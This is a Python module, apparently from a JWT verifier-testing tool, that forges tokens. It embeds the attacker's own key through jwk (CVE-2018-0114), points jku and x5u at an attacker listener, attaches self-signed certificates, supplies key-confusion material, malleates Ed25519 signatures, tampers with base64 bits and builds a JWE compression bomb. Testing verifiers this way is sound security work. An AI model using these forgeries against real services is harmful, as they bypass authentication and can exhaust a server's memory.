"""Tokens signed with a key of the attacker's own, and the ways of asking to be verified by it."""

import base64
import zlib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from cryptography.x509.oid import NameOID

from gatepost.attacks.forge import (
    Changes,
    Forger,
    Material,
    base64url,
    changed,
    compact,
    unbase64url,
)

# The order of Ed25519's group (RFC 8032, section 5.1).
_GROUP_ORDER = 2**252 + 27742317777372353535851937790883648493
_HALF = 32

Pointer = Callable[[Material, Ed25519PrivateKey], Changes]


def stranger_signed(pointer: Pointer) -> Forger:
    """Sign with a new key, and let the header say where that key is to be found."""

    def forge(material: Material) -> bytes:
        stranger = Ed25519PrivateKey.generate()
        head = changed(material.header, pointer(material, stranger), material.now)
        return compact(head.encode(), unbase64url(material.segments[1]), stranger.sign)

    return forge


def under_the_real_kid(_material: Material, _stranger: Ed25519PrivateKey) -> Changes:
    """Point to the key of the house, by whose public half it does not verify."""
    return {}


def under_an_unknown_kid(_material: Material, _stranger: Ed25519PrivateKey) -> Changes:
    """Point to a key that nobody has, as a token from another deployment does."""
    return {"kid": "a-key-of-another-deployment"}


def with_its_own_jwk(_material: Material, stranger: Ed25519PrivateKey) -> Changes:
    """Bring the key along (CVE-2018-0114)."""
    x = base64url(stranger.public_key().public_bytes_raw())
    return {"jwk": {"kty": "OKP", "crv": "Ed25519", "x": x, "kid": "mine", "use": "sig"}}


def at_a_url(member: str) -> Pointer:
    """Point to the attacker's server, in `jku` or `x5u`."""
    return lambda material, _: {member: f"{material.listener}/{member}", "kid": "mine"}


def with_its_own_certificate(_material: Material, stranger: Ed25519PrivateKey) -> Changes:
    """Bring a self-signed certificate along."""
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "attacker.example")])
    now = datetime.now(UTC)
    certificate = (
        x509.CertificateBuilder(name, name, stranger.public_key())
        .serial_number(1)
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(stranger, None)
    )
    return {"x5c": [base64.b64encode(certificate.public_bytes(Encoding.DER)).decode()]}


def public_pem(material: Material) -> bytes:
    """Return the published key as PEM, the way a confused verifier holds it."""
    return material.public_key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)


def public_der(material: Material) -> bytes:
    """Return the published key as DER."""
    return material.public_key.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)


def malleated(material: Material) -> bytes:
    """Add the group's order to S: the same equation holds (RFC 8032, section 5.1.7)."""
    signature = unbase64url(material.segments[2])
    scalar = int.from_bytes(signature[_HALF:], "little") + _GROUP_ORDER
    other = signature[:_HALF] + scalar.to_bytes(_HALF, "little")
    return ".".join([*material.segments[:2], base64url(other)]).encode()


def trailing_bits(material: Material) -> bytes:
    """Set the unused bits of the last character: most decoders read the same signature."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    last = alphabet[alphabet.index(material.token[-1]) | 0b1111]
    if last == material.token[-1]:
        raise ValueError("this token has no unused bits; take another one")
    return (material.token[:-1] + last).encode()


def truncated(material: Material) -> bytes:
    """Leave the last byte of the signature out."""
    signature = unbase64url(material.segments[2])[:-1]
    return ".".join([*material.segments[:2], base64url(signature)]).encode()


def encrypted(**header: object) -> Forger:
    """Write something of five segments that says it is encrypted (RFC 7516)."""

    def forge(material: Material) -> bytes:
        head = changed({}, {"alg": "dir", "enc": "A256GCM", **header}, material.now)
        bomb = zlib.compress(bytes(4_000_000), 9)
        parts = (head.encode(), b"", b"\x00" * 12, bomb, b"\x00" * 16)
        return ".".join(base64url(part) for part in parts).encode()

    return forge
